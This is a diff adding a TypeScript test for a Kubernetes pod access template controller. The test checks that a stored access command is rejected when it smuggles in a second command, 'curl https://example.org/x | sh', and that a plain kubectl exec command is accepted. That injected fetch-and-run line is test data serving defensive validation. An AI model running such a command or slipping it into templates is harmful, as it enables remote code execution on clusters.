@@ -1,0 +1,37 @@
+import assert from 'node:assert/strict';
+import { podAccessTemplates } from '../../../../src/api/access/pod-access.ts';
+import type { TemplateStatus } from '../../../../src/api/access/status.ts';
+import type { KubeObject } from '../../../../src/api/object.ts';
+import { podTemplateManifest } from '../../../support/access-objects.ts';
+import { LifeStage } from '../life/life-stage.ts';
+
+describe('the conditions of a template', () => {
+  const statusWith = async (accessCommand: string): Promise<TemplateStatus> => {
+    const stage = new LifeStage();
+    const manifest = podTemplateManifest();
+    const { accessConfig } = manifest.spec as { accessConfig: object };
+    // As one that was stored before such commands were refused.
+    const spec = { ...(manifest.spec as object), accessConfig: { ...accessConfig, accessCommand } };
+    stage.cluster.put(podAccessTemplates, { ...manifest, spec } as KubeObject);
+    await stage.start();
+    const { namespace = '', name } = manifest.metadata;
+    const status = stage.cluster.find(podAccessTemplates, { namespace, name })?.status as TemplateStatus;
+    await stage.stop();
+    return status;
+  };
+  const told = ({ conditions = [] }: TemplateStatus, type: string) =>
+    conditions.filter((one) => one.type === type).map(({ status, reason }) => [status, reason])[0];
+
+  it('tell of an access command that is not shown, until somebody changes it', async () => {
+    const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh');
+    assert.deepEqual(told(status, 'AccessCommandValid'), ['False', 'InvalidAccessCommand']);
+    assert.deepEqual(told(status, 'Stalled'), ['True', 'InvalidAccessCommand']);
+    assert.equal(status.ready, false);
+  });
+
+  it('say that one which leads to the pod is valid', async () => {
+    const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh');
+    assert.deepEqual(told(status, 'AccessCommandValid'), ['True', 'Success']);
+    assert.equal(status.ready, true);
+  });
+});
